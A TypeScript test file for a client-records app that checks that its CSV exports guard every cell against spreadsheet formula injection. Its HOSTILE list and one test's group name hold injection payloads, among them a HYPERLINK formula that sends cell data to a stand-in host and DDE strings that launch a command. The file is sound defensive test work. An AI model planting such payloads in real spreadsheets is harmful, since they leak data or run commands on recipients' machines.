import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { attendanceCsv } from '../../shared/groups/attendance';
import type { Client, Measure } from '../../shared/records';
import { clientSchema } from '../../shared/records';
import { clientsToCsv, guessMapping, planClientImport, readCsv } from '../../shared/transfer/client-csv';
import { guardCsvCell, unguardCsvCell, writeCsv } from '../../shared/transfer/csv-cells';
import { recordsCsvFiles } from '../../shared/transfer/records-export';

/** Values a spreadsheet would run as a formula (OWASP's list and variants seen in the wild). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '=1+1',
  '-',
  '+1 555 0100',
  "'=1+1",
  "'Tis",
  "  'quoted",
];

/** What a spreadsheet reads as a formula: = + - @ first, possibly after spaces; or a leading tab or CR. */
const wouldRun = (cell: string): boolean => /^(?:[\t\r]|\s*[=+\-@])/u.test(cell);

/** Python's csv module (a reader that is not papaparse) reads a CSV text into rows of cells. */
function pythonRows(text: string): string[][] {
  const script = 'import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))';
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', script], { input: text, encoding: 'utf8' })) as string[][];
}

const client = (over: Partial<Client>, i: number): Client =>
  clientSchema.parse({ id: `c${i}`, name: `Client ${i}`, createdAt: 0, updatedAt: 0, ...over });

describe('CSV cells are never read as formulas', () => {
  test('the rule: formula characters, also after spaces, and a leading quote get a quote in front; nothing else does', () => {
    expect(guardCsvCell('=HYPERLINK("x")')).toBe(`'=HYPERLINK("x")`);
    expect(guardCsvCell('  =1+1')).toBe(`'  =1+1`);
    expect(guardCsvCell('\tTab')).toBe(`'\tTab`);
    expect(guardCsvCell('-')).toBe(`'-`);
    expect(guardCsvCell("'Tis")).toBe(`''Tis`);
    for (const plain of ['Jane Smith', "O'Brien", '2027-03-02 10:00', '9', 'a=b', 'شادي', ''])
      expect(guardCsvCell(plain)).toBe(plain);
    for (const value of HOSTILE) expect(unguardCsvCell(guardCsvCell(value))).toBe(value);
  });

  test('property: guarding never leaves a cell a spreadsheet would run, and unguarding gives back exactly the value', () => {
    const prefix = fc.constantFrom('', '=', '+', '-', '@', "'", ' ', '  ', '\t', '\r', '\u00a0', "''", " '", ' =');
    fc.assert(
      fc.property(prefix, fc.string({ unit: 'grapheme', maxLength: 20 }), (p, rest) => {
        const value = p + rest;
        const cell = guardCsvCell(value);
        expect(wouldRun(cell)).toBe(false);
        expect(unguardCsvCell(cell)).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });

  test('every CSV writer guards its cells: client list, records export, attendance, read back by papaparse and by Python csv', () => {
    const clients = HOSTILE.map((name, i) =>
      client({ name, phone: HOSTILE[(i + 1) % HOSTILE.length]!, address: `${HOSTILE[i]}\nline 2` }, i),
    );
    const measure: Measure = {
      id: 'm1',
      clientId: 'c0',
      kind: 'GAD-7',
      takenAt: 0,
      items: [0, 0, 0, 0, 0, 0, 0],
      createdAt: 0,
      updatedAt: 0,
    };
    const texts = [
      clientsToCsv(clients),
      ...Object.values(
        recordsCsvFiles(
          {
            clients,
            groups: [
              {
                id: 'g1',
                name: '=HYPERLINK("http://evil.example","Grief")',
                focus: '+focus',
                facilitator: '@me',
                coFacilitator: '-',
                openness: 'open',
                capacity: 8,
                location: '\t=1',
                onlineUrl: '',
                recurrence: '',
                sessionMinutes: 90,
                archived: false,
                createdAt: 0,
                updatedAt: 0,
              } as never,
            ],
            memberships: [],
            appointments: [],
            attendance: [],
            measures: [measure],
          },
          'Europe/London',
        ),
      ),
      attendanceCsv(HOSTILE.map((member) => ({ date: '2027-03-02', group: member, member, mark: 'present' }))),
    ];
    let hostileCells = 0;
    for (const text of texts) {
      const byPapa = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
      const byPython = pythonRows(text).filter((row) => row.length > 0);
      expect(byPython).toEqual(byPapa);
      for (const cell of byPython.flat()) {
        expect(wouldRun(cell), JSON.stringify(cell)).toBe(false);
        if (HOSTILE.includes(unguardCsvCell(cell)) && cell !== unguardCsvCell(cell)) hostileCells++;
      }
    }
    expect(hostileCells).toBeGreaterThan(3 * HOSTILE.length);
  });

  test('importing an exported list gives back hostile, dash, plus and quoted values exactly', () => {
    const values = HOSTILE.map((v) => v.trim());
    const clients = values.map((v, i) =>
      client({ name: `${v} ${i}`, preferredName: v, phone: i % 2 ? '-' : '+1 555 0100', presentingConcerns: v }, i),
    );
    const table = readCsv(`\uFEFF${clientsToCsv(clients)}`);
    const plan = planClientImport(table, guessMapping(table.headers), {
      existing: [],
      dateOrder: 'dmy',
      now: 0,
      newId: () => 'x',
    });
    expect(plan.refused).toEqual([]);
    expect(plan.clients.map((c) => [c.client.name, c.client.preferredName, c.client.phone, c.client.presentingConcerns])).toEqual(
      clients.map((c) => [c.name, c.preferredName, c.phone, c.presentingConcerns]),
    );
  });

  test('a plain writer call: header row guarded too, quotes and line breaks kept', () => {
    expect(writeCsv(['=Name', 'Note'], [['-', 'a "b"\nc']])).toBe(`'=Name,Note\r\n'-,"a ""b""\nc"`);
  });
});
